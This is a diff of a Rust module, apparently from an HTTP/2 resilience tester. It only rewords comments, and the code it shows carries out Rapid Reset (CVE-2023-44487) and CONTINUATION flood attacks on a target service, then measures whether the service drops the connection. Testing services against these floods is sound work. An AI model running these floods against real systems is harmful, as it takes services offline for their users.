@@ -17,15 +17,16 @@ const SETTINGS: u8 = 4;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
-/// `:status 200` by the static table.
+/// `:status 200` in the static table.
 const STATUS_200: u8 = 0x88;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
-/// How many CONTINUATION frames are enough: 64 MiB.
+/// Number of CONTINUATION frames of a flood: 64 MiB.
 const CONTINUATIONS: u32 = 4096;
-/// The service ends a connection after 30 s without an answer to its PING; what closes earlier was closed by the flood.
+/// Timeout of an attack. The service ends a connection after 30 s without an answer to its PING, so an earlier close is
+/// due to the flood.
 const MAX_TIME: Duration = Duration::from_secs(10);
 
-/// Floods the service, and waits for it to close the connection.
+/// Floods the service, and waits until it closes the connection.
 pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<Outcome> {
     if !["rapid_reset", "continuation_flood"].contains(&attack) {
         bail!("the h2 attack {attack:?} is not known");
@@ -39,7 +40,7 @@ pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<O
             } else {
                 continuation_flood(&mut writer).await
             };
-            // What was written is out, or the service has closed: either way its answer is what is waited for.
+            // Either everything was written, or the service has closed. In both cases its answer decides.
             drop(flood);
             std::future::pending::<()>().await;
         };
@@ -54,7 +55,7 @@ pub(crate) async fn run(attack: &str, streams: u64, target: &Target) -> Result<O
     Ok(Outcome { closed, health_ms, ..Outcome::default() })
 }
 
-/// One honest request on stream 1, so that what the service closes later is a connection that worked.
+/// Sends one valid request on stream 1, which proves that the connection worked before the flood.
 async fn greet(reader: &mut OwnedReadHalf, writer: &mut OwnedWriteHalf) -> Result<()> {
     writer.write_all(PREFACE).await?;
     writer.write_all(&h2_frame(SETTINGS, 0, 0, &[])).await?;
@@ -76,12 +77,12 @@ async fn greet(reader: &mut OwnedReadHalf, writer: &mut OwnedWriteHalf) -> Resul
     Ok(())
 }
 
-/// GET http /health, by the static table (RFC 7541 appendix A).
+/// Returns a GET request for http /health, encoded with the static table (RFC 7541 appendix A).
 fn request() -> Vec<u8> {
     [b"\x82\x86\x04\x07/health".as_slice(), b"\x01\x01x"].concat()
 }
 
-/// Requests that are cancelled at once (CVE-2023-44487).
+/// Sends requests that are cancelled at once (CVE-2023-44487).
 async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Result<()> {
     for batch in 0..streams.div_ceil(100) {
         let mut out = Vec::new();
@@ -95,7 +96,7 @@ async fn rapid_reset(writer: &mut OwnedWriteHalf, streams: u32) -> std::io::Resu
     Ok(())
 }
 
-/// A head that never ends (CVE-2024-27316 class).
+/// Sends an endless header block (CVE-2024-27316 class).
 async fn continuation_flood(writer: &mut OwnedWriteHalf) -> std::io::Result<()> {
     writer.write_all(&h2_frame(HEADERS, END_STREAM, 3, &request())).await?;
     // Literal fields without indexing: name `x`, a value of 126 bytes.
